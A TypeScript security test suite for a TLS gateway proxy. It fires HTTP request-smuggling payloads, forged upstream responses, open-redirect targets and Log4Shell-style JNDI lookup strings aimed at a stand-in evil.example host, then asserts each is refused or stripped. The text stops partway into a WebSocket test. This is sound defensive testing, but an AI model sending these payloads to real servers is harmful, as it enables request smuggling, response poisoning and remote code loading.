import { createServer as createNetServer, type Server as NetServer, type Socket } from 'node:net';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { AddressInfo } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import WebSocket, { WebSocketServer } from 'ws';
import { mintAccessToken } from '../../src/mesh/access-token';
import { type PortRoute, proxyHostName, type RouteEntry, type RouteTable } from '../../src/mesh/routes';
import { MemoryAccessLog } from '../../src/proxy/access-log';
import type { RouteSource } from '../../src/proxy/route-source';
import type { ProxyServer } from '../../src/proxy/server';
import { beforeDeadline, echo, eventually, fetchVia, makeTlsFixture, openWebSocket, startTestProxy, tempDir, testSigner } from './support';

/**
 * Attacks on the proxy (December 2026 review), each through a real ProxyServer over TLS on
 * loopback. Every test asserts the refused outcome where it matters: the environment never saw
 * the bytes (raw TCP environments record every byte they receive), the token never reached it,
 * the connection did not go on. Applications are real Node servers or raw TCP listeners; nothing
 * is mocked.
 */

const DOMAIN = 'test.local';
const ALICE = { subject: 'alice', organization: 'acme' };
const BOB = { subject: 'bob', organization: 'acme' };
const CAROL = { subject: 'carol', organization: 'globex' };
const COOKIE = '__Host-gateway-token';

/** A Node application that records what it received (method, url, raw headers, body) and echoes WebSocket messages. */
function startApp(): Promise<{ server: Server; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      seen.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n\n${Buffer.concat(chunks).toString('latin1')}`);
      if (req.url === '/events') {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write(': open\n\n');
        return;
      }
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(`${req.method} ${req.url}`);
    });
  });
  const wss = new WebSocketServer({ server });
  wss.on('connection', (ws) => ws.on('message', (data, isBinary) => ws.send(data, { binary: isBinary })));
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, seen })));
}

/**
 * A raw TCP environment that records every byte it receives, and answers each request head with
 * `answers[path]` (default: a 2-byte 200). Bodies are not parsed: the tests that use it check
 * bytes, not requests.
 */
function startRawApp(answers: Record<string, string> = {}): Promise<{ server: NetServer; bytes: () => string; sockets: Set<Socket> }> {
  let all = '';
  const sockets = new Set<Socket>();
  const server = createNetServer((socket: Socket) => {
    sockets.add(socket);
    let pending = '';
    socket.on('data', (chunk: Buffer) => {
      all += chunk.toString('latin1');
      pending += chunk.toString('latin1');
      let end: number;
      while ((end = pending.indexOf('\r\n\r\n')) >= 0) {
        const head = pending.slice(0, end);
        pending = pending.slice(end + 4);
        const path = (head.split(' ')[1] ?? '/').split('?')[0];
        socket.write(answers[path] ?? 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok');
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => sockets.delete(socket));
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, bytes: () => all, sockets })));
}

/**
 * Sends raw bytes over TLS and collects everything until the proxy closes the connection. The
 * client half-closes at once, or, given `until`, once what it received satisfies it (a client
 * that half-closes is answered what is in flight only, so pipelined requests need `until`).
 */
function rawExchange(port: number, ca: string, servername: string, bytes: string | Buffer, until?: (text: string) => boolean): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({ host: '127.0.0.1', port, ca, servername }, () => {
      socket.write(typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes);
      if (!until) socket.end();
    });
    const chunks: Buffer[] = [];
    socket.on('data', (c: Buffer) => {
      chunks.push(c);
      if (until?.(Buffer.concat(chunks).toString('latin1'))) socket.end();
    });
    socket.on('error', reject);
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
  });
}

/**
 * The responses in a transcript, in order, each framed by its Content-Length (every response
 * in these tests has one, or no body): a status line inside a body is not a response.
 */
function splitResponses(text: string): { status: number; complete: boolean }[] {
  const out: { status: number; complete: boolean }[] = [];
  let at = 0;
  while (at < text.length) {
    const end = text.indexOf('\r\n\r\n', at);
    const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(text.slice(at))?.[1] ?? 0);
    if (end < 0) {
      out.push({ status, complete: false });
      break;
    }
    const length = Number(/\r\ncontent-length: (\d+)/i.exec(text.slice(at, end))?.[1] ?? 0);
    out.push({ status, complete: text.length >= end + 4 + length });
    at = end + 4 + length;
  }
  return out;
}

/** Status codes of the responses in a transcript, in order. */
const statuses = (transcript: string) => splitResponses(transcript).map((r) => r.status);

const portOf = (s: Server | NetServer) => (s.address() as AddressInfo).port;

/** A route source the test swaps tables on, as the control plane would. */
class SwappableRoutes implements RouteSource {
  private onTable: ((table: RouteTable) => void) | undefined;
  constructor(private first: RouteTable) {}
  start(onTable: (table: RouteTable) => void): void {
    this.onTable = onTable;
    onTable(this.first);
  }
  swap(table: RouteTable): void {
    this.onTable!(table);
  }
  async close(): Promise<void> {}
}

describe('attacks on the gateway proxy (2026-12 review)', () => {
  const tmp = tempDir('proxy-attacks-');
  const tls = makeTlsFixture(tmp.dir, DOMAIN);
  const keys = testSigner();
  const otherKeys = testSigner();
  const log = new MemoryAccessLog();
  let privApp: Awaited<ReturnType<typeof startApp>>;
  let pubApp: Awaited<ReturnType<typeof startApp>>;
  let privRaw: Awaited<ReturnType<typeof startRawApp>>;
  let pubRaw: Awaited<ReturnType<typeof startRawApp>>;
  let hostile: Awaited<ReturnType<typeof startRawApp>>;
  let proxy: ProxyServer;
  let proxyPort: number;
  const tokens: Record<string, string> = {};

  const host = (s: Server | NetServer, hostId = 'h-alice') => proxyHostName(portOf(s), hostId, DOMAIN);
  const raw = (servername: string, bytes: string | Buffer, until?: (text: string) => boolean) => rawExchange(proxyPort, tls.ca, servername, bytes, until);
  /** Until `n` complete responses are in. */
  const responses = (n: number) => (text: string) => splitResponses(text).filter((r) => r.complete).length >= n;

  beforeAll(async () => {
    [privApp, pubApp] = [await startApp(), await startApp()];
    [privRaw, pubRaw] = [await startRawApp(), await startRawApp()];
    hostile = await startRawApp({
      '/lf': 'HTTP/1.1 200 OK\r\nX-A: a\nSet-Cookie: injected=1\r\nContent-Length: 2\r\n\r\nok',
      '/fold': 'HTTP/1.1 200 OK\r\nX-A: a\r\n Set-Cookie: injected=1\r\nContent-Length: 2\r\n\r\nok',
      '/cl-te': 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
      '/two-cl': 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\nok',
      '/nul': 'HTTP/1.1 200 OK\r\nX-A: a\x00b\r\nContent-Length: 2\r\n\r\nok',
      '/switch': 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nsecret-tunnel',
      // A response with a second, forged response glued behind it: meant for whoever is next on the connection.
      '/extra': 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nINJECTED',
    });
    const table: RouteTable = {
      version: '1',
      routes: [
        {
          hostId: 'h-alice',
          ip: '127.0.0.1',
          owner: ALICE,
          ports: [
            { port: portOf(privApp.server), access: 'private', protocol: 'http' },
            { port: portOf(pubApp.server), access: 'public', protocol: 'http' },
            { port: portOf(privRaw.server), access: 'private', protocol: 'http' },
            { port: portOf(pubRaw.server), access: 'public', protocol: 'http' },
            { port: portOf(hostile.server), access: 'private', protocol: 'http' },
          ],
        },
        { hostId: 'h-mallory', ip: '127.0.0.1', owner: CAROL, ports: [{ port: portOf(pubApp.server), access: 'public', protocol: 'http' }] },
      ],
    };
    ({ proxy, port: proxyPort } = await startTestProxy({ domain: DOMAIN, tls, table, tokenPublicKey: keys.publicKey, accessLog: log }));
    const mint = (principal: typeof ALICE, ttlSeconds = 600, now?: Date) => mintAccessToken({ signer: keys.signer, principal, ttlSeconds, now });
    tokens.alice = await mint(ALICE);
    tokens.bob = await mint(BOB);
    tokens.carol = await mint(CAROL);
    tokens.expired = await mint(ALICE, 60, new Date(Date.now() - 3600_000));
    tokens.foreign = await mintAccessToken({ signer: otherKeys.signer, principal: ALICE, ttlSeconds: 600 });
  });

  afterAll(async () => {
    await proxy?.close();
    for (const s of [privApp?.server, pubApp?.server]) {
      s?.closeAllConnections();
      await new Promise((r) => s?.close(r));
    }
    for (const r of [privRaw, pubRaw, hostile]) {
      for (const s of r?.sockets ?? []) s.destroy();
      await new Promise((done) => r?.server.close(done));
    }
    tmp.cleanup();
  });

  describe('smuggling: a message the proxy could frame or route two ways is refused before any byte is sent on', () => {
    // Each is sent to a public port (anyone may reach it) with a second request hidden where a
    // lenient parser would find it; the environment must receive nothing at all.
    const hidden = (h: string) => `GET /smuggled HTTP/1.1\r\nHost: ${h}\r\n\r\n`;
    const cases: [string, (pub: string, priv: string) => string, number][] = [
      ['Content-Length with Transfer-Encoding', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 400],
      ['Transfer-Encoding then Content-Length', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\n${hidden(v)}`, 400],
      ['two Transfer-Encoding headers', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${hidden(v)}`, 501],
      ['a Transfer-Encoding list', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 501],
      ['Transfer-Encoding: xchunked', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 501],
      ['Transfer-Encoding with a tab', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 400],
      ['Transfer-Encoding folded onto the next line', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 501],
      ['a space before the colon', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 400],
      ['two different Content-Lengths', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n${hidden(v)}`, 400],
      ['a Content-Length list', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nContent-Length: 0, 44\r\n\r\n${hidden(v)}`, 400],
      ['a signed Content-Length', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nContent-Length: +0\r\n\r\n${hidden(v)}`, 400],
      ['a Content-Length with a trailing no-break space', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nContent-Length: 0\xa0\r\n\r\n${hidden(v)}`, 400],
      ['Connection naming Content-Length', (p, v) => `POST / HTTP/1.1\r\nHost: ${p}\r\nConnection: content-length\r\nContent-Length: 44\r\n\r\n${hidden(v)}`, 400],
      ['Connection naming Host', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nConnection: host\r\n\r\n${hidden(v)}`, 400],
      ['chunked in HTTP/1.0', (p, v) => `POST / HTTP/1.0\r\nHost: ${p}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden(v)}`, 400],
      ['a bare LF inside a header line', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nX-A: 1\nContent-Length: 44\r\n\r\n${hidden(v)}`, 400],
      ['a NUL in a header value', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nX-A: 1\x00\r\n\r\n${hidden(v)}`, 400],
      ['an obs-folded header', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nX-A: 1\r\n X-B: 2\r\n\r\n${hidden(v)}`, 400],
      ['two Host headers, public then private', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nHost: ${v}\r\n\r\n`, 400],
      ['an absolute-form target naming the private port under the public Host', (p, v) => `GET https://${v}/ HTTP/1.1\r\nHost: ${p}\r\n\r\n`, 400],
      ['an absolute-form target with userinfo', (p, v) => `GET https://${v}@${p}/ HTTP/1.1\r\nHost: ${p}\r\n\r\n`, 400],
      ['an upgrade with a body', (p, v) => `GET / HTTP/1.1\r\nHost: ${p}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 44\r\n\r\n${hidden(v)}`, 400],
      ['CONNECT', (p, v) => `CONNECT ${v}:443 HTTP/1.1\r\nHost: ${p}\r\n\r\n`, 501],
      ['an HTTP/2 preface', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 501],
      ['a lower-case method', (p) => `get / HTTP/1.1\r\nHost: ${p}\r\n\r\n`, 400],
      ['two spaces in the request line', (p) => `GET  / HTTP/1.1\r\nHost: ${p}\r\n\r\n`, 400],
      ['HTTP/1.2', (p) => `GET / HTTP/1.2\r\nHost: ${p}\r\n\r\n`, 505],
    ];

    it.each(cases)('%s: refused, connection closed, nothing reaches any environment', async (_name, build, status) => {
      const before = [pubRaw.bytes().length, privRaw.bytes().length];
      const transcript = await raw(host(pubRaw.server), build(host(pubRaw.server), host(privRaw.server)));
      expect(statuses(transcript)).toEqual([status]);
      expect(transcript).toContain('Connection: close');
      expect([pubRaw.bytes().length, privRaw.bytes().length]).toEqual(before);
    });

    it.each([
      ['a chunk size with 0x', '0x2\r\nok\r\n0\r\n\r\n'],
      ['a chunk longer than its size', '1\r\nok\r\n0\r\n\r\n'],
      ['a chunk extension with a bare LF', '2;a\nb\r\nok\r\n0\r\n\r\n'],
      ['a negative chunk size', '-2\r\nok\r\n0\r\n\r\n'],
      ['a Content-Length trailer', '2\r\nok\r\n0\r\nContent-Length: 44\r\n\r\n'],
    ])('%s: the body is cut there, the environment connection dropped, and what follows never reaches anyone', async (_name, body) => {
      const pubHost = host(pubRaw.server);
      const marker = `/after-bad-chunk-${Math.random().toString(36).slice(2)}`;
      const transcript = await raw(
        pubHost,
        `POST / HTTP/1.1\r\nHost: ${pubHost}\r\nTransfer-Encoding: chunked\r\n\r\n${body}GET ${marker} HTTP/1.1\r\nHost: ${pubHost}\r\n\r\n`,
      );
      expect(statuses(transcript)).toEqual([400]);
      expect(pubRaw.bytes()).not.toContain(marker);
      await eventually(() => pubRaw.sockets.size === 0); // no environment connection kept out of step
    });
  });

  describe('anonymous visitors reach nothing of a private port', () => {
    const privHost = () => host(privRaw.server);
    it.each([
      ['GET', (h: string) => `GET / HTTP/1.1\r\nHost: ${h}\r\n\r\n`, [401]],
      ['HEAD', (h: string) => `HEAD / HTTP/1.1\r\nHost: ${h}\r\n\r\n`, [401]],
      ['POST with a body', (h: string) => `POST / HTTP/1.1\r\nHost: ${h}\r\nContent-Length: 5\r\n\r\nhello`, [401]],
      ['POST with Expect: 100-continue', (h: string) => `POST / HTTP/1.1\r\nHost: ${h}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n`, [401]],
      ['a WebSocket handshake', (h: string) => `GET / HTTP/1.1\r\nHost: ${h}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`, [401]],
      ['OPTIONS without Access-Control-Request-Method', (h: string) => `OPTIONS / HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://evil.example\r\n\r\n`, [401]],
      ['OPTIONS with Access-Control-Request-Method but no Origin', (h: string) => `OPTIONS / HTTP/1.1\r\nHost: ${h}\r\nAccess-Control-Request-Method: POST\r\n\r\n`, [401]],
      ['a preflight with a chunked body', (h: string) => `OPTIONS / HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: POST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`, [400]],
      ['HTTP/1.0 keep-alive, then a second request', (h: string) => `GET / HTTP/1.0\r\nHost: ${h}\r\nConnection: keep-alive\r\n\r\nGET / HTTP/1.1\r\nHost: ${h}\r\n\r\n`, [401]],
      ['an absolute-form target', (h: string) => `GET https://${h}/ HTTP/1.1\r\nHost: ${h}\r\n\r\n`, [401]],
      ['sign-out look-alikes', (h: string) => `GET /.gateway/sign-out/../../ HTTP/1.1\r\nHost: ${h}\r\n\r\nGET /.gateway/sign-outx HTTP/1.1\r\nHost: ${h}\r\n\r\nGET /.gateway/sign-out%2f.. HTTP/1.1\r\nHost: ${h}\r\n\r\n`, [401, 401, 401]],
      ['a host name in another case with a port', (h: string) => `GET / HTTP/1.1\r\nHost: ${h.toUpperCase()}:443\r\n\r\n`, [401]],
    ])('%s: refused, and the environment receives no byte', async (_name, build, expected) => {
      const before = privRaw.bytes().length;
      const transcript = await raw(privHost(), build(privHost()));
      expect(statuses(transcript)).toEqual(expected);
      expect(transcript).not.toContain('100 Continue');
      expect(privRaw.bytes().length).toBe(before);
    });

    it("a refused request's body is never read as a request, even one for a public port", async () => {
      const pubHost = host(pubRaw.server);
      const inner = `GET /from-a-refused-body HTTP/1.1\r\nHost: ${pubHost}\r\n\r\n`;
      for (const head of [
        `POST / HTTP/1.1\r\nHost: ${privHost()}\r\nContent-Length: ${inner.length}\r\n\r\n`,
        `POST / HTTP/1.1\r\nHost: ${privHost()}\r\nExpect: 100-continue\r\nContent-Length: ${inner.length}\r\n\r\n`,
        `POST / HTTP/1.1\r\nHost: ${privHost()}\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n`,
        `POST / HTTP/1.1\r\nHost: ${privHost()}\r\nX-Gateway-Token: ${tokens.carol}\r\nContent-Length: ${inner.length}\r\n\r\n`,
      ]) {
        const transcript = await raw(privHost(), head + inner);
        expect(statuses(transcript)).toEqual([head.includes(tokens.carol) ? 403 : 401]);
      }
      expect(pubRaw.bytes()).not.toContain('/from-a-refused-body');
      expect(privRaw.bytes()).not.toContain('/from-a-refused-body');
    });

    it('each pipelined request is decided on its own: a token on the first does not carry the second', async () => {
      const h = privHost();
      const before = privRaw.bytes();
      const transcript = await raw(h, `GET /with-token HTTP/1.1\r\nHost: ${h}\r\nX-Gateway-Token: ${tokens.alice}\r\n\r\nGET /without HTTP/1.1\r\nHost: ${h}\r\n\r\n`, responses(2));
      expect(statuses(transcript)).toEqual([200, 401]);
      const seen = privRaw.bytes().slice(before.length);
      expect(seen).toContain('/with-token');
      expect(seen).not.toContain('/without');
    });

    it('an Upgrade header without Connection: upgrade is not forwarded, even with a token: nothing can switch protocols', async () => {
      const h = privHost();
      const before = privRaw.bytes().length;
      const transcript = await raw(h, `GET /half-upgrade HTTP/1.1\r\nHost: ${h}\r\nX-Gateway-Token: ${tokens.alice}\r\nUpgrade: websocket\r\n\r\n`);
      expect(statuses(transcript)).toEqual([200]);
      const seen = privRaw.bytes().slice(before);
      expect(seen).toContain('/half-upgrade');
      expect(seen.toLowerCase()).not.toContain('upgrade: websocket');
    });

    it('routing and access go by Host alone: the TLS server name of a public port opens nothing private', async () => {
      const before = privRaw.bytes().length;
      const pubHost = host(pubRaw.server);
      const viaSni = await rawExchange(proxyPort, tls.ca, pubHost, `GET /by-sni HTTP/1.1\r\nHost: ${privHost()}\r\n\r\n`);
      expect(statuses(viaSni)).toEqual([401]);
      expect(privRaw.bytes().length).toBe(before);
      expect(pubRaw.bytes()).not.toContain('/by-sni');
    });

    it('a preflight reaches the application without its Upgrade, so it cannot open a tunnel', async () => {
      const h = privHost();
      const before = privRaw.bytes().length;
      const transcript = await raw(
        h,
        `OPTIONS /pf HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: GET\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
      );
      expect(statuses(transcript)).toEqual([200]);
      expect(transcript).not.toContain('ok'); // the body stays behind
      const seen = privRaw.bytes().slice(before);
      expect(seen).toContain('OPTIONS /pf');
      expect(seen.toLowerCase()).not.toContain('upgrade');
    });
  });

  describe('an anonymous preflight carries nothing but what CORS reads', () => {
    const privHost = () => host(privRaw.server);
    it('reaches a private application with Host, Origin and Access-Control-Request-* only (and the proxy\'s X-Forwarded-*)', async () => {
      const h = privHost();
      const before = privRaw.bytes().length;
      const transcript = await raw(
        h,
        `OPTIONS /pf2 HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://evil.example\r\nAccess-Control-Request-Method: PUT\r\n` +
          'Access-Control-Request-Headers: x-custom\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\nReferer: https://evil.example/\r\n' +
          'Accept: */*\r\nX-Api-Version: ${jndi:ldap://evil.example/b}\r\nCookie: session=stolen\r\nContent-Length: 0\r\n\r\n',
      );
      expect(statuses(transcript)).toEqual([200]);
      const seen = privRaw.bytes().slice(before);
      const [head] = seen.split('\r\n\r\n');
      expect(head.split('\r\n').map((line) => line.split(':')[0].toLowerCase())).toEqual([
        'options /pf2 http/1.1',
        'host',
        'origin',
        'access-control-request-method',
        'access-control-request-headers',
        'x-forwarded-for',
        'x-forwarded-proto',
        'x-forwarded-host',
      ]);
      expect(seen).not.toContain('jndi');
      expect(seen).not.toContain('stolen');
    });

    it('leaves a request the token admits as it came', async () => {
      const h = privHost();
      const before = privRaw.bytes().length;
      await raw(h, `OPTIONS /pf3 HTTP/1.1\r\nHost: ${h}\r\nOrigin: https://${h}\r\nUser-Agent: kept-agent\r\nX-Gateway-Token: ${tokens.alice}\r\n\r\n`);
      expect(privRaw.bytes().slice(before)).toContain('User-Agent: kept-agent');
    });
  });

  describe('tokens that do not admit', () => {
    it.each([
      ['expired', () => tokens.expired, 401],
      ['signed by another key', () => tokens.foreign, 401],
      ['of another organization', () => tokens.carol, 403],
      ['of another member (private port)', () => tokens.bob, 403],
    ])('%s: in every carrier, refused and nothing reaches the environment', async (_name, token, status) => {
      const h = host(privRaw.server);
      const before = privRaw.bytes().length;
      for (const carrier of [
        `X-Gateway-Token: ${token()}`,
        `Authorization: Bearer ${token()}`,
        `Cookie: ${COOKIE}=${token()}`,
      ]) {
        const transcript = await raw(h, `GET / HTTP/1.1\r\nHost: ${h}\r\n${carrier}\r\n\r\n`);
        expect(statuses(transcript)).toEqual([status]);
      }
      const redirect = await raw(h, `GET /?gateway_token=${token()} HTTP/1.1\r\nHost: ${h}\r\n\r\n`);
      expect(statuses(redirect)).toEqual([status]);
      expect(redirect).not.toMatch(/set-cookie/i); // never planted
      expect(privRaw.bytes().length).toBe(before);
    });

    it('a valid token in a spelling the proxy does not read is no token (and an underscore header claim is dropped)', async () => {
      const h = host(privRaw.server);
      const before = privRaw.bytes().length;
      for (const carrier of [`X_Gateway_Token: ${tokens.alice}`, `Cookie: __host-gateway-token=${tokens.alice}`, `Authorization: Token ${tokens.alice}`]) {
        expect(statuses(await raw(h, `GET / HTTP/1.1\r\nHost: ${h}\r\n${carrier}\r\n\r\n`))).toEqual([401]);
      }
      expect(privRaw.bytes().length).toBe(before);
    });
  });

  describe('tokens never reach the application', () => {
    // The application's view: url and raw headers, as a Node server parses them.
    const carriers: Record<string, (t: string) => { path: string; headers: Record<string, string | string[]> }> = {
      'X-Gateway-Token': (t) => ({ path: '/', headers: { 'X-Gateway-Token': t } }),
      'x-GATEWAY-token with X_Gateway_Token beside it': (t) => ({ path: '/', headers: { 'x-GATEWAY-token': t, X_Gateway_Token: t } }),
      'Authorization: Bearer': (t) => ({ path: '/', headers: { Authorization: `Bearer ${t}` } }),
      'lower-case bearer with a tab': (t) => ({ path: '/', headers: { authorization: `bearer\t${t}` } }),
      'two Authorization headers': (t) => ({ path: '/', headers: { authorization: [`Bearer ${t}`, `Bearer ${t}`] } }),
      'the cookie among others, oddly spaced': (t) => ({ path: '/', headers: { cookie: `a=1 ;  ${COOKIE}=${t}  ; b=2` } }),
      'the cookie in two Cookie headers': (t) => ({ path: '/', headers: { cookie: [`${COOKIE}=${t}`, `c=3; ${COOKIE}=${t}`] } }),
      'a POST with ?gateway_token= twice': (t) => ({ path: `/p?x=1&gateway_token=${t}&gateway_token=${t}`, headers: {} }),
      'a percent-encoded ?gateway_token=': (t) => ({ path: `/p?gateway_token=${encodeURIComponent(t).replace(/\./g, '%2E')}`, headers: {} }),
    };

    it.each(Object.keys(carriers))('%s: stripped on a private port (admitted) and on a public one', async (name) => {
      const t = tokens.alice;
      const { path, headers } = carriers[name](t);
      for (const app of [privApp, pubApp]) {
        const before = app.seen.length;
        // From a page of the environment itself, so that a cookie-only POST is admitted too.
        const origin = `https://${host(app.server)}`;
        const reply = await fetchVia(proxyPort, tls.ca, host(app.server), path, { method: 'POST', headers: { origin, ...headers }, body: 'x' });
        expect(reply.status).toBe(200);
        expect(app.seen.length).toBe(before + 1);
        const seen = app.seen[app.seen.length - 1];
        expect(seen).not.toContain(t.split('.')[2]); // not even the signature
        expect(seen.toLowerCase()).not.toContain('gateway');
      }
    });

    it('the access log never holds the token, whatever carried it', async () => {
      expect(JSON.stringify(log.entries)).not.toContain(tokens.alice.split('.')[2]);
    });
  });

  describe('the ?gateway_token= redirect stays on the host', () => {
    it.each([
      ['//evil.example/', '/'],
      ['/\\evil.example/', '/'],
      ['https://HOST//evil.example/', '/'],
      ['https://HOST?x=1', '/?x=1'],
      ['/%2F%2Fevil.example/', '/%2F%2Fevil.example/'],
      ['/a/..//evil.example', '/a/..//evil.example'],
    ])('%s redirects to %s', async (target, location) => {
      const h = host(privRaw.server);
      const t = target.replace('HOST', h);
      const sep = t.includes('?') ? '&' : '?';
      const transcript = await raw(h, `GET ${t}${sep}gateway_token=${tokens.alice} HTTP/1.1\r\nHost: ${h}\r\n\r\n`);
      expect(statuses(transcript)).toEqual([302]);
      const got = /\r\nLocation: ([^\r]*)\r\n/.exec(transcript)![1];
      expect(got).toBe(location);
      expect(got.startsWith('/') && !got.startsWith('//') && !got.startsWith('/\\')).toBe(true);
      expect(transcript).toContain(`Set-Cookie: ${COOKIE}=${tokens.alice}; Max-Age=`);
    });
  });

  describe('a hostile environment cannot split responses or reach the next visitor', () => {
    const get = (path: string) => {
      const h = host(hostile.server);
      return raw(h, `GET ${path} HTTP/1.1\r\nHost: ${h}\r\nX-Gateway-Token: ${tokens.alice}\r\n\r\n`);
    };
    it.each(['/lf', '/fold', '/cl-te', '/two-cl', '/nul', '/switch'])('%s: 502, nothing of it relayed', async (path) => {
      const transcript = await get(path);
      expect(statuses(transcript)).toEqual([502]);
      expect(transcript).not.toContain('injected');
      expect(transcript).not.toContain('secret-tunnel');
    });

    it('bytes past a response are not taken as the answer to the next request on the connection', async () => {
      const h = host(hostile.server);
      const req = (p: string) => `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nX-Gateway-Token: ${tokens.alice}\r\n\r\n`;
      const transcript = await raw(h, req('/extra') + req('/next'), responses(2));
      expect(statuses(transcript)).toEqual([200, 200]);
      expect(transcript).not.toContain('INJECTED');
    });
  });

  describe('exhaustion', () => {
    it('a head beyond the limit is refused with 431 and the connection closed, before any environment sees it', async () => {
      const h = host(pubRaw.server);
      const before = pubRaw.bytes().length;
      const transcript = await raw(h, `GET / HTTP/1.1\r\nHost: ${h}\r\nX-Pad: ${'a'.repeat(20_000)}\r\n\r\n`);
      expect(statuses(transcript)).toEqual([431]);
      expect(pubRaw.bytes().length).toBe(before);
    });

    it('a head that never ends is refused once it exceeds the limit', async () => {
      const h = host(pubRaw.server);
      const transcript = await raw(h, `GET / HTTP/1.1\r\nHost: ${h}\r\n${'X: y\r\n'.repeat(4000)}`);
      expect(statuses(transcript)).toEqual([431]);
    });
  });
});

/**
 * Access is decided per request against the route table in force; a route table that narrows a
 * port's access (public → organization → private, or a new owner) must also end what that port
 * is still relaying to visitors it no longer admits: tunnels, streams and uploads.
 */
describe('attacks on the gateway proxy: access narrowed while a tunnel or stream is open', () => {
  const tmp = tempDir('proxy-attacks-narrow-');
  const tls = makeTlsFixture(tmp.dir, DOMAIN);
  const keys = testSigner();
  const log = new MemoryAccessLog();
  let app: Awaited<ReturnType<typeof startApp>>;
  let routes: SwappableRoutes;
  let proxy: ProxyServer;
  let proxyPort: number;
  let version = 1;
  const tokens: Record<string, string> = {};

  const hostName = () => proxyHostName(portOf(app.server), 'h-alice', DOMAIN);
  const tableWith = (access: PortRoute['access'], owner = ALICE): RouteTable => {
    const entry: RouteEntry = { hostId: 'h-alice', ip: '127.0.0.1', owner, ports: [{ port: portOf(app.server), access, protocol: 'http' }] };
    return { version: String(version++), routes: [entry] };
  };
  const swap = async (table: RouteTable) => {
    routes.swap(table);
    await eventually(() => proxy.routesVersion === table.version);
  };
  const closed = (ws: WebSocket) => new Promise<number>((resolve) => (ws.readyState === WebSocket.CLOSED ? resolve(ws.readyState) : ws.on('close', (code) => resolve(code))));

  beforeAll(async () => {
    app = await startApp();
    routes = new SwappableRoutes(tableWith('public'));
    ({ proxy, port: proxyPort } = await startTestProxy({ domain: DOMAIN, tls, table: routes, tokenPublicKey: keys.publicKey, accessLog: log }));
    tokens.alice = await mintAccessToken({ signer: keys.signer, principal: ALICE, ttlSeconds: 600 });
    tokens.bob = await mintAccessToken({ signer: keys.signer, principal: BOB, ttlSeconds: 600 });
  });

  afterAll(async () => {
    await proxy?.close();
    app?.server.closeAllConnections();
    await new Promise((r) => app?.server.close(r));
    tmp.cleanup();
  });

  it('WebSockets opened on a public port end when it becomes private, anonymous or not; the owner comes back with a token', async () => {
